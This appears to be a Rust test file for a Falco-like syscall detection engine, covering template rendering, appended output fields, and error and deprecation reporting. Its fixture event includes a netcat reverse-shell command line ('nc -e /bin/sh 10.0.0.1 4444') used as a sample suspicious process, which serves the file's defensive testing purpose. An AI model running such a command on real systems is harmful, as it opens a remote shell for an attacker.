//! Tests of the outputs of events.

use metadata::ContainerState;

use super::{Options, container, netcat, rule, rules_with, with_context};
use crate::sources::syscall::{
    fields::Template,
    rules::{AppendOutput, ExtraField, SUGGESTED_OUTPUT},
};

fn text(template: &str) -> String {
    let container = container();
    with_context(&netcat(), ContainerState::Known(&container), |context| {
        let mut out = Vec::new();
        Template::parse(template).unwrap().render(context, &mut out);
        String::from_utf8(out).unwrap()
    })
}

#[test]
fn templates_are_rendered_as_falco_renders_them() {
    for (template, expected) in [
        ("cmd=%proc.cmdline!", "cmd=nc -e /bin/sh 10.0.0.1 4444!"),
        ("%proc.name%proc.pid", "nc1000"),
        ("%proc.name.", "nc."),
        ("%proc.name_x", "nc_x"),
        ("%5proc.name|", "nc   |"),
        ("%1proc.name|", "n|"),
        ("%proc.aname[1] %proc.aname[9]", "bash <NA>"),
        ("%proc.aname", "bash systemd"),
        ("%toupper(proc.name) %len(proc.args)", "NC 24"),
        ("%basename(proc.exepath)", "nc"),
        (
            "%container.image.repository:%container.image.tag",
            "registry:5000/team/app:v1",
        ),
        ("%fd.directory", "<NA>"),
        ("%user.loginuid %evt.failed", "-1 false"),
        ("a (b) [c]", "a (b) [c]"),
    ] {
        assert_eq!(text(template), expected, "{template}");
    }
}

#[test]
fn output_fields_are_distinct_and_sorted() {
    let template =
        Template::parse("%proc.pid %toupper(proc.name) %evt.num %proc.pid %5proc.pid").unwrap();
    let keys: Vec<_> = template.fields().iter().map(|field| &*field.key).collect();
    assert_eq!(keys, ["evt.num", "proc.name", "proc.pid"]);
}

#[test]
fn the_configuration_appends_to_outputs_and_fields() {
    let options = Options {
        append_output: vec![
            AppendOutput {
                extra_output: vec![SUGGESTED_OUTPUT.into()],
                ..AppendOutput::default()
            },
            AppendOutput {
                rule: Some("r".into()),
                extra_output: vec!["on %evt.hostname".into()],
                extra_fields: vec![
                    ("proc.pid".into(), None),
                    ("cluster".into(), Some("lab %evt.hostname".into())),
                ],
                ..AppendOutput::default()
            },
            AppendOutput {
                tags: vec!["missing".into()],
                extra_output: vec!["never".into()],
                ..AppendOutput::default()
            },
        ],
        ..Options::default()
    };
    let set = rules_with(&rule("r", "evt.type = execve"), &options);
    let rule = &set.rules()[0];
    assert_eq!(
        rule.output.text(),
        "o container_id=%container.id container_name=%container.name \
         container_image_repository=%container.image.repository \
         container_image_tag=%container.image.tag k8s_pod_name=%k8s.pod.name \
         k8s_ns_name=%k8s.ns.name on %evt.hostname"
    );
    let keys: Vec<_> = rule.extra.iter().map(ExtraField::key).collect();
    assert_eq!(keys, ["cluster", "proc.pid"]);
}

#[test]
fn a_wrong_append_output_is_an_error() {
    let options = Options {
        append_output: vec![AppendOutput {
            extra_output: vec!["%no.field".into()],
            ..AppendOutput::default()
        }],
        ..Options::default()
    };
    let files = [super::RuleFile::new(
        "a.yaml",
        rule("r", "evt.type = execve"),
    )];
    let report = super::compile(&files, &options).report;
    assert!(
        report
            .text()
            .contains("append_output: '%no.field': unknown field 'no.field'")
    );
}

#[test]
fn the_old_end_of_outputs_prints_nothing() {
    let text = rule("r", "evt.type = execve")
        .replace("output: o", "output: a (%container.info) %proc.name");
    let set = rules_with(&text, &Options::default());
    let template = &set.rules()[0].output;
    assert_eq!(template.text(), "a () %proc.name");
    let keys: Vec<_> = template.fields().iter().map(|field| &*field.key).collect();
    assert_eq!(keys, ["proc.name"]);
    let said = super::complaints(&[&text]);
    assert!(
        said.starts_with("LOAD_DEPRECATED_ITEM 0.yaml:4:14: warning: '%container.info'"),
        "{said}"
    );
}
